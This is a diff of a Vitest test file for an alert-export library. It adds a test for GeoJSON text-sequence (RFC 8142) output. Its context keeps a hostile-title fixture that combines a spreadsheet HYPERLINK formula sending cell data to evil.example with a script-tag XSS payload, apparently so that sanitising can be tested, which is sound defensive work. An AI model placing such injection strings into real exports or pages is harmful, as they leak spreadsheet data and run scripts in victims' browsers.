@@ -1,6 +1,6 @@
 import Parser from 'rss-parser';
 import { describe, expect, it } from 'vitest';
-import { ACLED_COLUMNS, alertsToAcledCsv, alertsToAtom, alertsToGeoJSON, atomEntryId } from '../../src/exports/index.js';
+import { ACLED_COLUMNS, alertsToAcledCsv, alertsToAtom, alertsToGeoJSON, alertsToGeoJSONSeq, atomEntryId } from '../../src/exports/index.js';
 import { makeAlert } from './alert-fixtures.js';
 
 const HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"click") <script>alert(1)</script> & "quoted", line\nbreak \u0001';
@@ -51,6 +51,18 @@ describe('GeoJSON export', () => {
     const [feature] = alertsToGeoJSON([alert]).features;
     expect(feature?.geometry).toBeNull();
     expect(feature?.properties.url).toBeNull();
+  });
+});
+
+describe('GeoJSON text sequence export', () => {
+  it('writes one RS-prefixed, LF-terminated feature per alert (RFC 8142)', () => {
+    const text = alertsToGeoJSONSeq([makeAlert(), makeAlert({ title: 'Second' })]);
+    const records = text.split('\u001e').slice(1);
+    expect(records).toHaveLength(2);
+    for (const record of records) {
+      expect(record.endsWith('\n')).toBe(true);
+      expect(JSON.parse(record).type).toBe('Feature');
+    }
   });
 });
 
